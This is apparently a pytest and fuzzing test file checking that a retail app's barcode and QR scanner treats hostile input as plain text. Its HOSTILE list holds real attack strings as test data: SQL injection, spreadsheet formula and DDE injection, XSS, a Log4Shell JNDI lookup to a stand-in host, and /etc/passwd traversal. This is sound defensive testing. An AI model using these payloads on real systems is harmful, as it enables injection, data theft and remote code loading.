"""Hostile codes, pictures and keys: none acts, none breaks, none grows; `codes.py` runs the same under atheris."""

import io
import subprocess
import sys

import numpy as np
import pytest
import segno
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from clienteling.contract.codes import badge_code, loyalty_code
from clienteling.desktop.runtime.text import say
from clienteling.desktop.scanning import domain, sentences
from clienteling.desktop.scanning.agreement import answer
from clienteling.desktop.scanning.decoder import Decoder
from clienteling.desktop.scanning.ladder import climb
from clienteling.desktop.scanning.picture import decode_gray
from tests.faults import codes

pytestmark = pytest.mark.qt_log_ignore(".*")
EAN = "9521234543213"
HOSTILE = [
    "'; DROP TABLE customer; --", "\" OR 1=1 --", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3",
    "@SUM(A1)", "=cmd|' /C calc'!A0", "<img src=http://evil.example/x.png>", "<script>alert(1)</script>",
    "<b>bold</b>", "[a](b)", "javascript:alert(1)", "data:text/html,<script>", "file:" + "///etc/passwd",
    "\\\\evil.example\\share", "../../etc/passwd", "%s%n%x", "${jndi:ldap://evil.example/a}", "{{7*7}}",
    "\u202e3123454321250", "\u2066CL00001\u2069", "\ufeff" + EAN, "CL0000\u200b12345", "\u0421L000012345",
    "\uff19\uff15\uff12\uff11\uff12\uff13\uff14\uff15", "\x00" + EAN, "\x0f\x13\x1b[2J", "\x7f\x08\x08\x08",
    "name:kim* NEAR(", "A" * 4096, "\U0001f9e3" * 900, "]C1" * 300, "01" * 1000, "(01)" * 400,
    "{code.__class__}", "{0}", "%n", "%1",
    "https://" + "a" * 3000, "WIFI:S:free;T:WPA;P:x;;", "tel:+82111", "SMSTO:+1:hi", "mailto:a@b.c?subject=x",
    "BEGIN:VCARD\nFN:Kim\nEND:VCARD",
]  # fmt: skip


@pytest.fixture(scope="module")
def decoder():
    """The readers, once for all."""
    made = Decoder()
    yield made
    made.close()


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_only_ever_text(text):
    for symbology in ("", "QRCODE", "CODE128"):
        found = domain.scan(domain.classify(text, symbology), "camera", "")
        assert found.text.isprintable()
        assert len(found.text) <= domain.SQUARE_LIMIT
        assert found.kind in ("product", "unknown")
        assert found.kind == "unknown" or found.gtin14 == "0" + EAN


@pytest.mark.parametrize("text", [text for text in HOSTILE if len(text.encode()) < 2900])
def test_hostile_text_in_a_real_square_code_never_becomes_anything_of_ours(decoder, text):
    stream = io.BytesIO()
    segno.make_qr(text).save(stream, kind="png", scale=4, border=4)
    found = answer(climb(decode_gray(stream.getvalue()), decoder, clock=lambda: 0.0))
    assert not isinstance(found, str)
    assert found[0].text.isprintable()
    assert found[0].kind == "unknown" or found[0].gtin14 == "0" + EAN


def test_the_largest_square_code_is_read_and_cut_to_what_is_shown(decoder):
    stream = io.BytesIO()
    segno.make_qr("9" * 7089).save(stream, kind="png", scale=5, border=4)
    found = answer(climb(decode_gray(stream.getvalue()), decoder, clock=lambda: 0.0))
    assert not isinstance(found, str)
    assert (found[0].kind, found[0].reason) == ("unknown", domain.TOO_LONG)
    assert len(found[0].text) == domain.LINEAR_LIMIT


BEGINNINGS = [b"", b"01", b"]C1", b"]d2", b"(01)", b"https://a.b/01/", EAN.encode(), loyalty_code(1).encode()]


@settings(max_examples=300, deadline=None)
@given(st.integers(0, 255), st.sampled_from(BEGINNINGS), st.binary(max_size=300))
def test_no_bytes_of_a_code_break_scanning(symbology, beginning, rest):
    codes.code(bytes([symbology]) + beginning + rest)


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=3000))
def test_no_brightness_of_a_frame_breaks_the_readers(decoder, data):
    codes.frame(data, decoder)


@given(st.binary(max_size=300))
def test_no_bytes_of_a_serial_scanner_break_scanning(data):
    codes.sent(data)


@pytest.mark.slow
def test_a_short_search_finds_no_input_that_breaks_scanning(tmp_path):
    pytest.importorskip("atheris")
    # its memory is measured from the process that starts it: that one may be large
    limits = ["-runs=1000", "-seed=1", "-rss_limit_mb=8192", f"-artifact_prefix={tmp_path}/"]
    command = [sys.executable, "-m", "tests.faults.codes", *limits, str(tmp_path / "kept")]
    searched = subprocess.run(command, capture_output=True, text=True, timeout=800, check=False)
    assert searched.returncode == 0, searched.stderr[-3000:]
    assert "Done 1000 runs" in searched.stderr


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_said_as_it_stands(text):
    found = domain.scan(domain.classify(text, "QRCODE"), "camera", "")
    assert sentences.row(found)[0] == sentences.shown(found)["text"] == found.text
    assert say("Nothing here has the code {code}.", code=found.text) == f"Nothing here has the code {found.text}."


@given(st.binary(max_size=200))
def test_no_keys_break_scanning(data):
    codes.keys(data)


def _files():
    made = []
    for kind in ("png", "jpeg", "webp"):
        stream = io.BytesIO()
        Image.fromarray(np.arange(64 * 48, dtype=np.uint8).reshape(48, 64)).save(stream, kind)
        made.append(stream.getvalue())
    return made


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(_files()), st.integers(0, 400), st.binary(max_size=40))
def test_no_bytes_of_a_picture_break_the_readers(decoder, data, place, noise):
    codes.picture(data[:place] + noise + data[place + len(noise) :], decoder)


def test_a_badge_or_a_card_with_anything_around_it_is_neither():
    for code in (loyalty_code(7), badge_code(7)):
        for text in (f"={code}", f"{code}'--", f"<b>{code}</b>", f"{code}\n{code}", f"{code}{code}"):
            assert domain.classify(text).kind == "unknown"
